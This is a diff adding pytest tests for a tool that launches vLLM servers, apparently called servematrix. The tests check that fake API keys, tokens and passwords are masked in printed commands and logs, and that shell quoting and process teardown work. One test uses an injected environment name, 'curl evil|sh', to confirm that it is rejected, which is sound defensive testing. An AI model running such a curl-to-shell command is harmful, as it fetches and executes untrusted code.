@@ -86,3 +86,76 @@ def test_server_command_carries_layout_quant_and_device_env():
     assert "--tensor-parallel-size 2 --pipeline-parallel-size 1" in " ".join(s.argv)
     assert "--dtype float32" in " ".join(s.argv)
     assert s.env["VLLM_CPU_KVCACHE_SPACE"] == "1" and "|" in s.env["VLLM_CPU_OMP_THREADS_BIND"]
+
+
+# --- trust at the boundary: printed commands and the server log hold no secret ------------------
+SECRET_ARGV = ["--api-key", "sk-argv-31415926", "Kq7", "--hf-token=hf_flag_2718"]
+SECRET_ENV = {"HF_TOKEN": "hf_env_16180339", "SVC_PASSWORD": "pW4", "MIRROR_URL": "https://ci:mirrorPw9@mirror.test/s",
+              "NOTE": "two words; $(echo x)"}
+SECRETS = ["sk-argv-31415926", "Kq7", "hf_flag_2718", "hf_env_16180339", "pW4", "mirrorPw9"]
+
+
+@pytest.fixture
+def forget_secrets():
+    from servematrix import redact
+
+    redact.forget()
+    yield
+    redact.forget()
+
+
+def test_shell_masks_secrets_of_argv_and_env_and_quotes_every_word(tmp_path, forget_secrets):
+    import shlex
+
+    s = LaunchSpec(argv=["python", "-m", "vllm.entrypoints.openai.api_server", "--model", "/m o", *SECRET_ARGV],
+                   env=SECRET_ENV, port=8000, log_path=tmp_path / "log", startup_timeout=1)
+    line = s.shell()
+    assert not [x for x in SECRETS if x in line], line
+    words = shlex.split(line)
+    assert words[:4] == ["HF_TOKEN=***", "MIRROR_URL=https://ci:***@mirror.test/s", "NOTE=two words; $(echo x)",
+                         "SVC_PASSWORD=***"]
+    assert words[4:] == ["python", "-m", "vllm.entrypoints.openai.api_server", "--model", "/m o",
+                         "--api-key", "***", "***", "--hf-token=***"]
+    assert "'***'" in line  # quoted: pasted, a bare *** would be a glob
+
+
+def test_shell_refuses_an_environment_name_that_is_not_a_variable_name(tmp_path):
+    from servematrix.errors import ConfigError
+
+    s = LaunchSpec(argv=["python"], env={"X; curl evil|sh #": "1"}, port=1, log_path=tmp_path / "l", startup_timeout=1)
+    with pytest.raises(ConfigError, match="not a valid variable name"):
+        s.shell()
+
+
+def test_what_the_server_prints_reaches_its_log_redacted_and_whole_before_the_verdict(tmp_path, forget_secrets):
+    """A real child prints its argv (as vLLM logs its non-default args, api_key included) and its
+    environment, then dies on a last line without a newline: the log holds none of the secrets,
+    and the failure signature is that last line, masked."""
+    code = ("import os, sys\n"
+            "print('non-default args:', sys.argv[1:], flush=True)\n"
+            "print('env', os.environ['HF_TOKEN'], os.environ['SVC_PASSWORD'], os.environ['MIRROR_URL'], flush=True)\n"
+            "sys.stderr.write('RuntimeError: bad key ' + sys.argv[2]); sys.exit(1)")
+    sp = spec(tmp_path, code)
+    sp = LaunchSpec(argv=[*sp.argv, *SECRET_ARGV], env=SECRET_ENV, port=sp.port, log_path=sp.log_path,
+                    startup_timeout=30)
+    with pytest.raises(ServerFailed) as info:
+        with LocalServer(sp):
+            pass
+    log = sp.log_path.read_text()
+    assert not [x for x in SECRETS if x in log], log
+    assert log.startswith("# servematrix: HF_TOKEN=") and "'--api-key', '***', '***', '--hf-token=***'" in log
+    assert "env *** *** https://ci:***@mirror.test/s" in log
+    assert info.value.failure.signature == "RuntimeError: bad key ***"
+
+
+def test_a_grandchild_holding_the_log_pipe_delays_neither_the_verdict_nor_teardown(tmp_path):
+    code = ("import subprocess, sys\n"
+            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)'])\n"
+            "print('RuntimeError: died, child left', flush=True); sys.exit(1)")
+    t0 = time.monotonic()
+    with pytest.raises(ServerFailed) as info:
+        with LocalServer(spec(tmp_path, code, timeout=120)):
+            pass
+    assert info.value.failure.signature == "RuntimeError: died, child left"
+    assert info.value.seconds < 3 and time.monotonic() - t0 < 5
+    assert not [p for p in psutil.process_iter(["cmdline"]) if "time.sleep(300)" in " ".join(p.info["cmdline"] or [])]
